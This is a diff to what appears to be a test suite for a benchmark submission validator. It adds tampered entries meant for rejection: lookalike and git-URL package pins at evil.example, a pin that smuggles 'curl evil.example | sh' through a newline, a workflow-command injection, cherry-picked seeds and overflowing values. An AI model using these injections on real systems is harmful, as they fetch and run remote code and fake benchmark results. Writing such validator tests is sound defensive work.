@@ -241,6 +241,34 @@ def a_pin_of_something_else(folder):
     edit(folder / "entry.json", lambda e: e.update(pin="evil-package==1.0"))
 
 
+@tampering("pin")
+def a_pin_that_begins_alike(folder):
+    edit(folder / "entry.json", lambda e: e.update(pin=e["pin"].partition(" @ ")[0].replace("==", "-evil==")))
+
+
+@tampering("schema")
+def a_pin_from_an_address(folder):
+    def point(e):
+        e.update(pin="git+https://evil.example/" + e["pin"].partition(" @ ")[0])
+
+    edit(folder / "entry.json", point)
+
+
+@tampering("schema")
+def a_pin_of_half_a_commit(folder):
+    edit(folder / "entry.json", lambda e: e.update(pin=e["pin"].partition(" @ ")[0] + " @ 0123abc"))
+
+
+@tampering("markup")
+def a_command_behind_the_pin(folder):
+    edit(folder / "entry.json", lambda e: e.update(pin="bgbench==0.1.0 @ x\ncurl evil.example | sh"))
+
+
+@tampering("markup")
+def a_workflows_command_in_a_key(folder):
+    record(folder, lambda r: r["diagnostics"].update({"x\n::error::y": 1}))
+
+
 @tampering("licence")
 def no_licence(folder):
     edit(folder / "entry.json", lambda e: e.update(licence="all rights reserved"))
@@ -403,12 +431,54 @@ def log_q_gone(folder):
     arrays(folder, lambda a: a.pop("log_q"))
 
 
-@tampering("metrics")
+@tampering("weights")
 def bad_points_given_no_weight(folder):
     def drop(a):
         a["log_w"][np.argsort(a["u"])[-10:]] = -np.inf
 
     arrays(folder, drop)
+
+
+@tampering("energies")
+def one_energy_of_a_hundred(folder):
+    """Of a conformer with the least weight, which no draw by weight would look at."""
+
+    def lower(a):
+        k = int(np.argmin(a["log_w"]))
+        a["u"][k] -= 1.0
+        a["log_w"][k] += 1.0
+
+    arrays(folder, lower)
+
+
+@tampering("energies")
+def a_clash_with_a_low_energy(folder):
+    def collapse(a):
+        a["x"][7] = a["x"][7] * 0.01
+
+    arrays(folder, collapse)
+
+
+@tampering("implausible")
+def one_evaluation_a_cell(folder):
+    def claim(r):
+        r["budget"].update(used=1)
+        r["budget"]["ledger"]["sample"]["energy"].update(calls=1.0)
+
+    every_record(folder, claim)
+
+
+@tampering("seeds")
+def the_best_of_many_seeds(folder):
+    def renumber(cell):
+        cell.update(seed=cell["seed"] + 17)
+
+    edit(folder / "run.json", lambda p: [renumber(c) for c in p["cells"]])
+    every_record(folder, lambda r: renumber(r["cell"]))
+    for kind in ("cells", "arrays"):
+        for path in sorted((folder / kind).iterdir()):
+            system, _, seed = path.stem.rpartition("-s")
+            path.rename(path.with_name(f"{system}-s{int(seed) + 17}{path.suffix}"))
 
 
 @tampering("nonfinite")
@@ -539,6 +609,11 @@ _field("a_commit_that_is_a_number", lambda r: r["provenance"].update(git={"commi
 _field("git_that_is_a_text", lambda r: r["provenance"].update(git="x"))
 _field("a_density_that_is_null", lambda r: r["diagnostics"].update(density=None))
 _field("seconds_without_their_total", lambda r: r["seconds"].pop("total"))
+_field("seconds_too_short_to_divide_by", lambda r: r["seconds"].update(sampling=5e-324))
+_field("seconds_without_end", lambda r: r["seconds"].update(total=1e300))
+_field("metrics_too_large_to_add", lambda r: r["metrics"].update(energy_w2=1e200))
+_field("parameters_without_end", lambda r: r["card"].update(n_parameters=10**24))
+_field("hours_without_end", lambda r: r["card"].update(training_hours=1e300))
 _field("many_parameters", lambda r: r["card"].update(n_parameters="many"))
 _field("hours_that_are_null", lambda r: r["card"].update(training_hours=None))
 
